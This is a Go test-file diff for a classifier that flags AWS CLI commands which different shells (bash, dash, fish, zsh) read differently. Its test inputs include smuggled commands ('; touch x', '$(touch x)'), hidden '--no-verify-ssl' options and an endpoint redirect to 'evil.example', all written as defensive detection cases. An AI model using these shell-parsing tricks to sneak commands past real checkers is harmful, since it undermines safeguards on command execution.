@@ -71,7 +71,7 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"aws --profile x --region y s3 rm s3://b --recursive", Deletes | ChangesState},
 		{"aws s3 --region y rm s3://b", Deletes | ChangesState},
 		{"aws 's3' \"rm\" s3://b", Deletes | ChangesState},
-		{"aws s3 r\\m s3://b", Deletes | ChangesState},
+		{"aws s3 r\\m s3://b", NotUnderstood | Deletes | ChangesState},
 		{"aws s3 mv s3://a s3://b", Deletes | ChangesState | WritesFile},
 		{"aws s3 sync . s3://b --delete", Deletes | ChangesState | ReadsFile},
 		{"aws s3 sync s3://b . --delete", Deletes | ChangesState | ReadsAWS | WritesFile},
@@ -374,7 +374,7 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 	}
 }
 
-// A command is only understood if bash and zsh read it in the same way at a prompt.
+// A command is only understood if bash, dash, fish, and zsh read it in the same way at a prompt.
 func TestClassify_WhatInteractiveShellsReadDifferentlyIsNotUnderstood(t *testing.T) {
 	tests := []struct{ name, command string }{
 		{"quotation mark that a zsh drops with !", `aws logs filter-log-events --filter-pattern "x!" --log-group-name 'a" ; touch x ; echo \'`},
@@ -387,6 +387,22 @@ func TestClassify_WhatInteractiveShellsReadDifferentlyIsNotUnderstood(t *testing
 		{"length that printf assigns", `aws ec2 describe-instances | printf '%s %n' x PATH`},
 		{"the same with a modifier", `aws ec2 describe-instances | printf abc%ln PATH`},
 		{"the same with several modifiers", `aws ec2 describe-instances | printf 'abc%-5hhn' PATH`},
+		{"plain text that printf prints", `aws ec2 describe-instances | printf '[%s]\n' x`},
+		{"folder that a zsh changes", "aws ec2 describe-instances | cd /tmp"},
+		{"apostrophe of a fish", `aws logs tail g --filter-pattern 'a\' --since '; touch x #'`},
+		{"escapes of a fish", `aws ec2 describe-instances \x2d\x2dno-verify-ssl`},
+		{"path of a program in a zsh", "aws s3 ls =ls"},
+		{"folder of a user", "aws s3 ls ~root"},
+		{"texts of jobs", "aws s3 ls $jobtexts"},
+		{"command line of a bash", "aws s3 ls $BASH_EXECUTION_STRING"},
+		{"modifier of a variable", "aws s3 ls $g:h"},
+		{"operator of a zsh for names of files", "aws s3 ls s3://x^y"},
+		{"number sign in a word", "aws s3 ls s3://x#y"},
+		{"several words", "aws logs tail {g,--no-verify-ssl}"},
+		{"earlier command after an apostrophe in double quotes", `aws logs tail "it's" '!aws'`},
+		{"earlier command after an escaped apostrophe", `aws logs tail it\'s '!aws'`},
+		{"control character in quotes", "aws logs tail 'x\x1by'"},
+		{"option in capital letters", "aws s3 ls --NO-VERIFY-SSL"},
 		{"subscript in single quotes", `aws s3 ls $path['$(touch x)']`},
 		{"subscript in double quotes", `aws s3 ls "$path['\$(touch x)']"`},
 		{"replaced text of a variable", "aws ec2 describe-instances --instance-ids $ZSH_NAME:s,zsh,--endpoint-url=https://evil.example,"},
@@ -425,7 +441,7 @@ func TestClassify_WhatInteractiveShellsReadDifferentlyIsNotUnderstood(t *testing
 	}
 	for _, command := range []string{
 		`aws logs filter-log-events --filter-pattern '"x!"'`, `aws logs tail g --filter-pattern "a != b"`, `aws logs tail g --filter-pattern "x\!"`,
-		`aws ec2 describe-instances | printf '[%s]\n' x`, `aws ec2 describe-instances | printf '%s is 5%%\n' a-b`, `aws s3 ls s3://${BUCKET_NAME}/x`, `aws logs tail g --filter-pattern '^x^y^'`,
+		`aws s3 ls s3://${BUCKET_NAME}/x`, `aws logs tail g --filter-pattern '^x^y^'`,
 		`aws logs tail g --filter-pattern '{ $.a = 1 }'`, `aws logs tail g --filter-pattern "}"`, `aws logs tail {g}`, `aws logs tail "${g}"`, `aws logs tail g \}`, `aws logs tail {g} >/dev/null`,
 		"aws logs tail g \\\n\t--filter-pattern '!x'", "aws logs tail '!x\ny != z ! a'", "aws s3api list-buckets \\\n  --query 'Buckets[?!contains(Name, `x`)]'",
 		`aws logs tail g >/dev/null 2>&1`, `aws logs tail g 2>/dev/null`,
@@ -435,6 +451,23 @@ func TestClassify_WhatInteractiveShellsReadDifferentlyIsNotUnderstood(t *testing
 		`aws stepfunctions list-executions --state-machine-arn "arn:aws:states:$REGION:$ACCOUNT:stateMachine:orders"`,
 	} {
 		assert.Equal(t, ReadsAWS, Classify(command), command)
+	}
+}
+
+// Which characters are understood is a list, and a new rule of a shell can only concern these.
+func TestClassify_UnderstandsOnlyListedCharacters(t *testing.T) {
+	const letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ_abcdefghijklmnopqrstuvwxyz"
+	for _, test := range []struct{ before, after, understood string }{
+		{"aws s3 ls s3://x", "y", letters + " $%*+,-./:<=>?@[]~"}, // $y is a variable
+		{"aws s3 ls s3://x 'x", "y'", letters + " !\"#$%&()*+,-./:;<=>?@[\\]^`{|}~\n"},
+		{"aws s3 ls s3://x \"x", "y\"", letters + " #$%&'()*+,-./:;<=>?@[\\]^{|}~\n"},
+		{"aws s3 ls s3://x # x", "y", letters + " ,-./:"},
+	} {
+		for c := range byte(128) {
+			command := test.before + string(c) + test.after
+			isUnderstood := Classify(command)&(NotUnderstood|Disguised) == 0
+			assert.Equal(t, strings.IndexByte(test.understood, c) >= 0, isUnderstood, "%q", command)
+		}
 	}
 }
 
